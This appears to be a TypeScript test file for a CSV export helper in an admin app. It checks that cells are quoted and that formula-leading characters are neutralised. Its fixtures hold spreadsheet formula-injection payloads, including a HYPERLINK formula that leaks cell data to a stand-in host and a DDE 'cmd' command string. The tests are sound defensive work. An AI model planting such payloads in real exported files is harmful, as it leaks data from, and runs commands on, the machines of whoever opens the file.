import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { Refine } from '@refinedev/core';
import { describe, expect, it } from 'vitest';
import type { OpsRequestFn } from '../api/ops-client';
import { createDataProvider } from '../providers/data-provider';
import { csvCell, toCsv } from './csv';
import { useCsvExport } from './list';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

describe('CSV cells', () => {
  it('quotes every cell, doubles quotes and defuses formulae but not signed amounts', () => {
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell('-50.00')).toBe('"-50.00"');
    expect(csvCell('=SUM(A1)')).toBe(`"'=SUM(A1)"`);
    expect(csvCell('@x')).toBe(`"'@x"`);
    for (const lead of ['+', '-', '\t', '\r', '\uFF1D', '\uFF20']) expect(csvCell(`${lead}cmd|' /C calc'!A0`).startsWith(`"'${lead}`), JSON.stringify(lead)).toBe(true);
  });

  it('writes a header line and one line per row', () => {
    expect(toCsv([{ Day: '2026-01-01', Net: '1.00' }, { Day: 'Total', Net: '-2.00' }])).toBe('"Day","Net"\r\n"2026-01-01","1.00"\r\n"Total","-2.00"');
    expect(toCsv([])).toBe('');
  });
});

describe('list exports', () => {
  it('escape a payer name that is a formula, as every list export goes through useCsvExport', async () => {
    const rows = [
      { orderNo: 'D1', payerName: HYPERLINK, amount: '-12.50' },
      { orderNo: 'D2', payerName: '@SUM(1+1)*cmd', amount: '10.00' },
    ];
    const request = (async () => ({ list: rows, pageNo: 1, totalPages: 1, totalCount: rows.length })) as unknown as OpsRequestFn;
    let trigger: (() => Promise<string | undefined>) | undefined;
    function Probe() {
      trigger = useCsvExport<(typeof rows)[number]>({
        resource: 'deposits',
        filters: [],
        filename: 'deposits',
        row: (r) => ({ Order: r.orderNo, Payer: r.payerName, Amount: r.amount }),
        download: false,
      }).triggerExport;
      return null;
    }
    const root = createRoot(document.createElement('div'));
    await act(async () => {
      root.render(
        <Refine dataProvider={createDataProvider(request)} resources={[{ name: 'deposits' }]}>
          <Probe />
        </Refine>,
      );
    });
    let csv: string | undefined;
    await act(async () => {
      csv = await trigger!();
    });
    root.unmount();
    expect(csv).toBe(
      ['"Order","Payer","Amount"', `"D1","'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","-12.50"`, `"D2","'@SUM(1+1)*cmd","10.00"`].join('\r\n'),
    );
  });
});
